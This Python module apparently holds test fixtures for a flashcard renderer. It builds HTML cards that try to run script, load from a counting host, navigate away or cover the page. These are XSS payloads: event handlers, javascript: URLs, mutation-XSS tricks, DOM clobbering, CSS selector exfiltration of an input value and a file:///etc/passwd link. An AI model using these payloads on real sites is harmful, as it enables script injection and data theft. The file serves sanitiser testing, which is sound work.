"""Cards that try to run a script, to load something, to leave, or to change the page around them.

In a payload, HOST is the address of a server that counts its connections, and BAD is a script that
leaves a mark on each window that it reaches.
"""

# Each mark is looked for afterwards.
_MARK = "for(const w of [window,parent,top])try{w.bad=1}catch(e){}"

_LINKS = (
    "stylesheet", "prefetch", "preload", "modulepreload", "preconnect", "dns-prefetch",
    "prerender", "icon", "manifest", "import", "alternate",
)  # fmt: skip
# What the page's scripts ask a card's document, its forms and themselves for.
_DOCUMENT_NAMES = (
    "body", "documentElement", "getElementById", "querySelector", "querySelectorAll",
    "addEventListener", "getSelection", "createElement", "defaultView", "activeElement", "head",
    "fonts",
)  # fmt: skip
_FORM_NAMES = (
    "attributes", "removeAttribute", "getAttribute", "setAttribute", "matches", "closest",
    "dataset", "childNodes", "remove", "localName", "style", "parentNode",
)  # fmt: skip
_PAGE_IDS = (
    "data", "frame", "top", "stage", "toast", "said", "help", "app-style", "note-type-style",
    "frame-style", "qa", "content", "position", "flip-button", "list", "image-occlusion-canvas",
    "toggle",
)  # fmt: skip

SCRIPTS = {
    "script": "<script>BAD</script>",
    "script from a host": '<script src="HOST/script.js"></script>',
    "module": '<script type="module">BAD; import("HOST/module.js")</script>',
    "end of the page's script": "</script><script>BAD</script>",
    "end of the frame": "</iframe><script>BAD</script>",
    "end of a comment": "--></style></title></textarea><script>BAD</script>",
    "start of a comment": "<!-- <script>BAD</script>",
    "handler of a picture": '<img src="x" onerror="BAD"><img src="data:," onload="BAD">',
    "handlers that need no hand": (
        '<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart="BAD">a</p>'
        '<details open ontoggle="BAD"><summary>s</summary></details>'
        '<input autofocus onfocus="BAD"><body onload="BAD" onpageshow="BAD" onresize="BAD">'
        '<video onloadstart="BAD" onerror="BAD"><source src="x" onerror="BAD"></video>'
        '<marquee onstart="BAD">m</marquee><svg onload="BAD"></svg><svg/onload=BAD>'
    ),
    "handlers that need a hand": (
        '<p tabindex="0" onclick="BAD" onkeydown="BAD" onmouseover="BAD" onpointerdown="BAD" '
        'onfocus="BAD" onbeforeinput="BAD" oncopy="BAD" contenteditable>text</p>'
        '<div onclick="BAD" accesskey="n"><button onclick="BAD" popovertarget="p">b</button></div>'
        '<div id="p" popover onbeforetoggle="BAD">p</div>'
    ),
    "script as an address": (
        '<a href="javascript:BAD">a</a><a href=" &#1;java&#9;script:BAD">b</a>'
        '<a href="JaVaScRiPt:BAD" target="_top">c</a><a href="data:text/html,<script>BAD</script>">'
        "d</a>"
        '<svg width="50" height="20"><a xlink:href="javascript:BAD"><text y="15">e</text></a></svg>'
        '<math><mtext href="javascript:BAD" xlink:href="javascript:BAD">f</mtext></math>'
        '<map name="m"><area shape="rect" coords="0,0,50,50" href="javascript:BAD"></map>'
        '<img usemap="#m" src="data:image/svg+xml,<svg/>" width="50" height="50">'
    ),
    "script as a form's address": (
        '<form action="javascript:BAD"><button>a</button><input type="submit"></form>'
        '<form id="f"></form><button form="f" formaction="javascript:BAD">b</button>'
        '<form><input type="image" src="x" formaction="javascript:BAD"></form>'
    ),
    "frames": (
        '<iframe src="javascript:BAD"></iframe><iframe srcdoc="<script>BAD</script>"></iframe>'
        '<iframe src="HOST/frame"></iframe><object data="javascript:BAD"></object>'
        '<object data="HOST/object"></object><embed src="HOST/embed"><frameset><frame src="HOST/f">'
        '<portal src="HOST/portal"></portal><fencedframe src="HOST/ff"></fencedframe>'
        '<applet code="HOST/applet"></applet>'
    ),
    "animation to a script": (
        '<svg width="90" height="30"><a><animate attributeName="href" values="javascript:BAD"/>'
        '<set attributeName="xlink:href" to="javascript:BAD"/>'
        '<set attributeName="onclick" to="BAD"/><text y="20">animated</text></a></svg>'
    ),
    "scripts in SVG": (
        "<svg><script>BAD</script><foreignObject><iframe srcdoc='<script>BAD</script>'></iframe>"
        '<body onload="BAD"><img src="x" onerror="BAD"></body></foreignObject>'
        '<use href="HOST/use.svg#a"/><use xlink:href="data:image/svg+xml,<svg id=a/>#a"/>'
        '<image href="HOST/image" xlink:href="HOST/image2" width="9" height="9"/>'
        '<feImage href="HOST/fe"/><style>@import "HOST/svg.css";</style></svg>'
    ),
    "hidden in other markup": (
        "<noscript><p title='</noscript><img src=x onerror=BAD>'></noscript>"
        "<template><script>BAD</script><img src=HOST/template></template>"
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
        "onerror=BAD&gt;'></style></mglyph></table></mtext></math>"
        "<svg></p><style><a id='</style><img src=x onerror=BAD>'>"
        "<select><template shadowrootmode=open><script>BAD</script></template></select>"
        "<div><template shadowrootmode=open><img src=HOST/shadow onerror=BAD></template></div>"
    ),
}

LOADS = {
    "pictures": (
        '<img src="HOST/img"><img srcset="HOST/set 1x, HOST/set2 2x"><img src="//HOST/none">'
        '<picture><source srcset="HOST/source"><img src="HOST/img2"></picture>'
        '<input type="image" src="HOST/input"><img lowsrc="HOST/low" dynsrc="HOST/dyn">'
        '<table background="HOST/table"><td background="HOST/cell">c</table>'
        '<body background="HOST/b">'
    ),
    "sounds and videos": (
        '<video poster="HOST/poster" src="HOST/video" autoplay preload="auto"></video>'
        '<audio autoplay src="HOST/audio"></audio><audio><source src="HOST/source"></audio>'
        '<video autoplay controls><track default src="HOST/track" kind="captions"></video>'
        '<bgsound src="HOST/bg">'
    ),
    "links that load": "".join(
        f'<link rel="{kind}" href="HOST/{number}" as="script">'
        for number, kind in enumerate(_LINKS)
    ),
    "speculation": '<script type="speculationrules">{"prefetch":[{"urls":["HOST/spec"]}]}</script>',
    "styles that load": (
        '<style>@import "HOST/import.css"; @import url(HOST/import2.css);'
        "@font-face{font-family:f;src:url(HOST/font)} *{font-family:f;background:url(HOST/all);"
        "cursor:url(HOST/cursor),auto;list-style-image:url(HOST/list);"
        "border-image:url(HOST/border)}"
        "p::before{content:url(HOST/content)} p{mask:url(HOST/mask#m);filter:url(HOST/filter#f);"
        "background:image-set(url(HOST/set) 1x);shape-outside:url(HOST/shape)}</style><p>styled</p>"
    ),
    "attributes that load": (
        '<p style="background-image:url(HOST/attribute);--x:url(HOST/variable)">a</p>'
        '<p style="background:u\\72l(HOST/escaped)">b</p><svg><rect fill="url(HOST/fill#a)" '
        'filter="url(HOST/filter#f)" width="9" height="9"/></svg>'
        '<q cite="HOST/cite">c</q><ins cite="HOST/cite2">d</ins><html manifest="HOST/manifest">'
    ),
    "reading by selectors": (
        '<style>input[value^="s"]{background:url(HOST/starts-with-s)}'
        "@media print{body{background:url(HOST/print)}}</style><input value='secret'>"
    ),
}

LEAVES = {
    "refresh": '<meta http-equiv="refresh" content="0;url=HOST/refresh">',
    "refresh to a script": '<meta http-equiv="refresh" content="0;url=javascript:BAD">',
    "another base": '<base href="HOST/" target="_top"><a href="relative">a</a><img src="img">',
    "another policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "links out": (
        '<a href="HOST/link">a</a><a href="HOST/top" target="_top">b</a>'
        '<a href="HOST/parent" target="_parent" ping="HOST/ping">c</a>'
        '<a href="HOST/blank" target="_blank" rel="opener">d</a>'
        '<a href="HOST/named" target="w">e</a>'
        '<a href="HOST/file" download>f</a><a href="data:,text" download="x.txt">g</a>'
        '<a href="file:///etc/passwd">h</a><a href="mailto:a@example.org">i</a>'
        '<a href="#nowhere">j</a><a href="about:blank" target="_top">k</a>'
        '<svg width="50" height="20"><a href="HOST/svg" target="_top">'
        '<text y="15">l</text></a></svg>'
        '<map name="n"><area coords="0,0,50,50" href="HOST/area" target="_top"></map>'
        '<img usemap="#n" src="data:image/svg+xml,<svg/>" width="50" height="50">'
        '<math href="HOST/math"><mi href="HOST/mi">m</mi></math>'
    ),
    "forms": (
        '<form action="HOST/form" method="post"><input name="a" value="b">'
        "<button>send</button></form>"
        '<form action="HOST/top" target="_top"><input type="submit" autofocus></form>'
        '<form id="g"></form><input form="g" value="x">'
        '<button form="g" formaction="HOST/formaction" '
        'formtarget="_blank" formmethod="post">send</button>'
        '<form method="dialog"><button>close</button></form>'
        '<form action="HOST/image"><input type="image" src="x" alt="i"></form>'
    ),
}

COVERS = {
    "a cover": (
        '<div style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647;'
        'background:red">cover</div>'
    ),
    "a cover by a stylesheet": (
        "<style>html{display:none!important} :root{--ground:red;--ink:red} *{all:unset!important;"
        "position:fixed!important;inset:-999px!important;z-index:2147483647!important}"
        "#top,header,nav,button{display:none!important;color:red}</style><p>p</p>"
    ),
    "dialogs": (
        "<dialog open style='position:fixed;inset:0;width:100vw;height:100vh'>d</dialog>"
        '<div popover="manual" id="q">q</div><button popovertarget="q">show</button>'
        '<button command="show-modal" commandfor="r">modal</button><dialog id="r">r</dialog>'
    ),
    "names of the document": "".join(
        f'<img name="{name}" id="{name}"><form name="{name}"></form>' for name in _DOCUMENT_NAMES
    ),
    "names of a form": "<form onclick=BAD>"
    + "".join(f'<input name="{name}" id="{name}">' for name in _FORM_NAMES)
    + "</form>",
    "ids of the page": "".join(f'<p id="{name}">{name}</p>' for name in _PAGE_IDS),
    "an occlusion": (
        '<div id="image-occlusion-container"><img src="HOST/occlusion"><canvas '
        'id="image-occlusion-canvas"></canvas></div><div class="cloze" data-shape="__proto__" '
        'data-left="x"></div><div class="cloze" data-shape="rect" data-left="-9" data-top="1e9" '
        'data-width="url(HOST/shape)" data-height="NaN"></div>'
    ),
    "what the page replaces": (
        '[[type:Typed]] [[type:"><img src=x onerror=BAD>]] [anki:play:q:0] [anki:play:a:99] '
        '[sound:HOST/a.mp3] [sound:"><script>BAD</script>] \\(\\href{javascript:BAD}{x}\\) '
        '<a class="hint" href="#" onclick="BAD;document.getElementById(\'top\')">hint</a>'
        '<button data-play="0">play</button><button data-play="__proto__">play</button>'
    ),
    "ten thousand cells": "<table>" + ("<tr>" + "<td>cell" * 100) * 100 + "</table>",
    "deep nesting": "<div>" * 5_000 + "deep" + "<b><i>" * 300 + "<a href=#>a",
    "a broken drawing": (
        '<svg viewBox="0 0 0 0" width="1e9" height="-5"><path d="M0 0L"><g><rect width="abc">'
        "<text>&undefined;<![CDATA[ ]]><svg><desc><table><svg></p></g></p><foreignObject>"
    ),
    "text without an end": "<plaintext><script>BAD</script></body></html>",
    "a field without an end": "<textarea><script>BAD</script></body>",
    "a style without an end": "<style>*{display:none",
    "nothing closed": (
        "<b><i><u><a href='HOST/open'><button><select><option><table><tr><td><ul><li>"
    ),
    "an attribute without an end": "<p title=\"<img src=x onerror=BAD><a href='HOST/attribute",
    "keys and focus": (
        '<input autofocus accesskey="j"><button accesskey="n" autofocus>b</button>'
        '<textarea autofocus></textarea><div contenteditable autofocus tabindex="1">edit</div>'
        '<select autofocus><option>o</select><marquee><a href="HOST/m">m</a></marquee>'
    ),
    "characters": "\u202e\u2066 reversed \u0000\ufeff\ud7ff\U0010ffff" + "\u0301" * 500 + "]]>",
}


GROUPS = {"scripts": SCRIPTS, "loads": LOADS, "leaves": LEAVES, "covers": COVERS}


def payloads(group: str, host: str) -> dict[str, str]:
    """Return the HTML of the cards by name."""
    return {
        name: html.replace("HOST", host).replace("BAD", _MARK)
        for name, html in GROUPS[group].items()
    }
